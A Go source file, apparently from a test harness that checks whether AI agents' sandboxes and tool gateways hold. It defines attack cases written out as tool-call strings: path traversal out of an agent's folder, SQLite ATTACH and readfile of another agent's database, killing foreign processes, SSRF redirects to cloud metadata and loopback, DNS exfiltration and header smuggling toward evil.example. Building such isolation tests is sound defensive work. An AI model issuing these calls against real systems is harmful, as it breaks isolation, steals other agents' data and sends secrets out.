package evidence

import (
	"fmt"
	"path/filepath"
	"strings"

	"bulkhead/internal/deny"
	"bulkhead/internal/evidence/attempt"
)

// calls is how many calls a minute an agent has to be allowed, so that verify can
// make those of its attacks.
const calls = 60

// byTools says whether decoys make an attack at a gateway.
func (a Attack) byTools() bool { return strings.HasPrefix(a.Attempt, "tool.") }

// withTools leaves an attack out where the attacker may call none of some tools,
// and does not make it where it may call too few.
func withTools(a Attack, tools ...string) Attack {
	aim := a.Aim
	a.Aim = func(from, at Agent, w World) attempt.Request {
		q := aim(from, at, w)
		q.Proxy = from.Proxy
		return q
	}
	a.Layer, a.From = deny.LayerTools, byRuntime
	a.Absent = func(from, _ Agent) (who, why string) {
		for _, t := range tools {
			if !from.may(t) {
				return from.Name, "it may not call " + t
			}
		}
		return "", ""
	}
	a.Lacks = tooFew
	return a
}

// tooFew is [Attack.Lacks] of what takes calls.
func tooFew(from Agent, _ World) string {
	if from.Rate > 0 && from.Rate < calls {
		return fmt.Sprintf("its manifest lets it make %d calls a minute (tools.ratePerMinute), and the attacks take up to %d", from.Rate, calls)
	}
	return ""
}

// toolAttacks are on what other agents keep with their gateways, by the tools of
// the attacker's own.
func toolAttacks() []Attack {
	// look asks for what another keeps by the very names that it has there. Who keeps
	// it is a decoy: in a live agent nothing is planted, so there it shows that the
	// own gateway has none of it.
	look := func(id, title, tries string, tools []string, asked ...string) Attack {
		return withTools(Attack{
			ID: id, Title: title, Tries: tries, Attempt: "tool.look", At: AtNobody, Reference: "CWE-639; OWASP API1:2023; MITRE ATLAS AML.T0057",
			Aim: func(_, _ Agent, _ World) attempt.Request { return attempt.Request{Names: asked} },
			Controls: []Control{{
				Mechanism: gateway, Witness: looks("absent", string(deny.ToolMissing), string(deny.ToolInvalid)),
			}},
		}, tools...)
	}
	tasks := look("tool.tasks_of", "see another agent's scheduled tasks", "proc_schedule, to list them", []string{"proc_schedule"}, `proc_schedule {"action":"list"}`)
	listed := tasks.Aim
	tasks.Aim = func(from, at Agent, w World) attempt.Request {
		q := listed(from, at, w)
		q.Paths = []string{canaryTime}
		return q
	}
	return []Attack{
		look("tool.files_of", "read another agent's files by the file tools", "fs_read and fs_list, by the names that the other has",
			[]string{"fs_read", "fs_list"}, `fs_read {"path":"`+canaryName+`","as":"text"}`, `fs_list {}`),
		look("tool.sql_of", "read another agent's tables", "db_query of a table that the other has",
			[]string{"db_query"}, `db_query {"sql":"SELECT word FROM bulkhead_canary"}`),
		look("tool.memory_of", "read another agent's memory and vectors", "mem_get, mem_recall and vec_query, by the names that the other has",
			[]string{"mem_get", "mem_recall", "vec_query"}, `mem_get {"key":"`+canaryName+`"}`, `mem_recall {"query":"canary"}`, `vec_query {"vector":[1,0],"limit":100}`),
		look("tool.events_of", "hear another agent's events", "events_poll of the other's subscription, and events_list_topics",
			[]string{"events_poll", "events_list_topics"}, `events_poll {"topic":"`+canaryName+`","subscription":"`+canaryName+`","after":0}`, `events_list_topics {}`),
		tasks,
		withTools(Attack{
			ID: "tool.path", Title: "leave its folder by the file tools", Tries: "fs_read and fs_list of the other's places: upward, absolute, escaped, and by /proc", Attempt: "tool.call",
			At: AtNext, Reference: "CWE-22; CVE-2025-53109",
			Aim: func(_, at Agent, _ World) attempt.Request {
				up, kept := strings.Repeat("../", 12), strings.TrimPrefix(at.Place.Data(), "/")
				return attempt.Request{Names: []string{
					fmt.Sprintf(`fs_read {"path":%q}`, up+filepath.Join(kept, gatewayStore)), fmt.Sprintf(`fs_list {"path":%q}`, "/"+kept),
					fmt.Sprintf(`fs_read {"path":%q}`, "..%2f..%2f"+kept), fmt.Sprintf(`fs_list {"path":%q}`, "/proc/self/root/"+kept),
				}}
			},
			Uncontrolled: "which names a tool takes, and that it opens none but below its folder, is its code and no mechanism of a Spec that could be switched off; internal/primitive/fs has 408 names with their verdicts, and a process that swaps folders for links meanwhile",
			Also:         looks(string(deny.ToolUnsafe), string(deny.ToolMissing), string(deny.ToolInvalid)),
		}, "fs_read", "fs_list"),
		withTools(Attack{
			ID: "tool.plant", Title: "plant files in another agent's folder by the file tools", Tries: "fs_write into the other's data, upward and absolute", Attempt: "tool.plant",
			At: AtNext, Reference: "CWE-22; CWE-73",
			Aim: func(_, at Agent, _ World) attempt.Request {
				return attempt.Request{Paths: []string{strings.Repeat("../", 12) + strings.TrimPrefix(at.Place.Data(), "/"), at.Place.Workspace()}}
			},
			Uncontrolled: "as for tool.path",
			Also:         looks(string(deny.ToolUnsafe), string(deny.ToolInvalid)),
		}, "fs_write"),
		withTools(Attack{
			ID: "tool.attach", Title: "open another agent's database", Tries: "ATTACH of the other's store, VACUUM into its folder, readfile of it, and its name as a schema", Attempt: "tool.call",
			At: AtNext, Reference: "CWE-89; SQLite, Defense Against The Dark Arts",
			Aim: func(_, at Agent, _ World) attempt.Request {
				store := filepath.Join(at.Place.Data(), gatewayStore)
				return attempt.Request{Names: []string{
					fmt.Sprintf(`db_query {"sql":%q}`, "ATTACH DATABASE '"+store+"' AS other"), fmt.Sprintf(`db_query {"sql":%q}`, "VACUUM INTO '"+at.Place.Data()+"/planted'"),
					fmt.Sprintf(`db_query {"sql":%q}`, "SELECT readfile('"+store+"')"), `db_query {"sql":"SELECT * FROM other.sqlite_schema"}`,
				}}
			},
			Uncontrolled: "which statements are run is the tool's code and no mechanism of a Spec that could be switched off; internal/primitive/db has 383 statements with their verdicts",
			Also:         looks(string(deny.ToolUnsafe), string(deny.ToolInvalid), string(deny.ToolMissing)),
		}, "db_query"),
		withTools(Attack{
			ID: "tool.kill_of", Title: "end or see another agent's processes by the code tools", Tries: "proc_kill and proc_list of the other's processes, by their numbers on the host", Attempt: "tool.call",
			At: AtNext, Reference: "CWE-639; OWASP API1:2023",
			Aim: func(_, at Agent, _ World) attempt.Request {
				var q attempt.Request
				for _, pid := range at.PIDs[:min(len(at.PIDs), 1)] {
					q.Names = append(q.Names, fmt.Sprintf(`proc_kill {"processId":"%d"}`, pid), fmt.Sprintf(`proc_list {"processId":"%d"}`, pid))
				}
				return q
			},
			Uncontrolled: "a decoy has no code run; that the tools know what their own gateway spawned and nothing else is their code, and shown by internal/primitive/proc",
			Also:         looks(string(deny.ToolMissing), string(deny.ToolInvalid)),
		}, "proc_kill", "proc_list"),
	}
}

// redirections are where a listed destination redirects to: a site that is not
// listed, the cloud's metadata, and the host's loopback.
var redirections = []string{"evil.example:80", metadata, "127.0.0.1:80"}

// redirectAttacks are on who follows an answer of a listed destination. Another
// agent has no address that it could lead to.
func redirectAttacks() []Attack {
	refusal := looks(string(deny.NotListed), string(deny.PortNotListed), string(deny.SpecialRange), string(deny.OwnAddress), string(deny.BadTarget))
	fetched := withTools(Attack{
		ID: "tool.redirect", Title: "have a tool led inward by a listed destination", Tries: "net_http_get, post, put and delete of a listed destination that redirects to an unlisted site, the cloud's metadata and the host's loopback", Attempt: "tool.call",
		At: AtNobody, Reference: "CWE-918; CVE-2021-21311",
		Aim: func(from, _ Agent, _ World) attempt.Request {
			var q attempt.Request
			for _, to := range redirections {
				for _, method := range []string{"get", "post", "put", "delete"} {
					q.Names = append(q.Names, fmt.Sprintf(`net_http_%s {"url":"http://%s/to/%s/"}`, method, from.Redirects, to))
				}
			}
			return q
		},
		Controls: []Control{{Mechanism: guard, Witness: refusal}},
	}, "net_http_get", "net_http_post", "net_http_put", "net_http_delete")
	may := fetched.Absent
	fetched.Absent = func(from, at Agent) (who, why string) {
		if who, why = may(from, at); why == "" && from.Redirects == "" {
			return from.Name, "no destination of its manifest is ours to redirect: decoys have one"
		}
		return who, why
	}
	fetched.Layer = deny.LayerEgress
	resolved := withTools(Attack{
		ID: "tool.resolve", Title: "carry data out in names that a tool resolves", Tries: "net_dns_resolve of names that are not listed", Attempt: "tool.call",
		At: AtNobody, Reference: "MITRE ATT&CK T1071.004",
		Aim: func(_, _ Agent, _ World) attempt.Request {
			return attempt.Request{Names: []string{`net_dns_resolve {"hostname":"c2VjcmV0.evil.example"}`, `net_dns_resolve {"hostname":"evil.example"}`, `net_dns_resolve {"hostname":"localhost"}`}}
		},
		Uncontrolled: "the same guard decides as in tool.redirect, whose control shows it",
		Also:         append(looks(string(deny.ToolInvalid)), refusal...),
	}, "net_dns_resolve")
	resolved.Layer = deny.LayerEgress
	smuggled := withTools(Attack{
		ID: "tool.smuggle", Title: "reach a foreign site on a listed address by a tool's header", Tries: "net_http_get of a listed destination with another Host, with a framing of its own, and with line ends in a field and in the URL", Attempt: "tool.call",
		At: AtNobody, Reference: "CWE-113; CWE-444; MITRE ATT&CK T1090.004",
		Aim: func(from, _ Agent, _ World) attempt.Request {
			get := func(path, header string) string {
				return fmt.Sprintf(`net_http_get {"url":"http://%s/%s","headers":{%s}}`, from.Listed, path, header)
			}
			return attempt.Request{Names: []string{
				get("", `"Host":"evil.example"`), get("", `"Transfer-Encoding":"chunked"`), get("", `"X":"a\r\nHost: evil.example"`), get(`\r\nHost: evil.example`, ""),
			}}
		},
		Uncontrolled: "which fields a tool sends is its code and no mechanism of a Spec that could be switched off; internal/primitive/net shows which it does",
		Also:         append(looks(string(deny.ToolInvalid), string(deny.ToolUnsafe)), refusal...),
	}, "net_http_get")
	gets := smuggled.Absent
	smuggled.Absent = func(from, at Agent) (who, why string) {
		if who, why = gets(from, at); why == "" && from.Listed == "" {
			return from.Name, "its manifest lists no destination by name"
		}
		return who, why
	}
	smuggled.Layer = deny.LayerEgress
	return []Attack{
		{
			ID: "proxy.redirect", Title: "be led inward by a listed destination", Tries: "go to an unlisted site, the cloud's metadata and the host's loopback as a redirect has a client do: on a connection to the proxy over which an answer came", Attempt: "proxy.redirect",
			Layer: deny.LayerEgress, From: byRuntime, At: AtNobody, Reference: "RFC 9110, 15.4; CWE-918",
			Aim: func(from, _ Agent, _ World) attempt.Request {
				return attempt.Request{Proxy: from.Proxy, Names: redirections}
			},
			Uncontrolled: "the same guard decides as in tool.redirect, whose control shows it; test/system has a listed destination that redirects",
			Also:         refusal,
		},
		fetched, resolved, smuggled,
	}
}
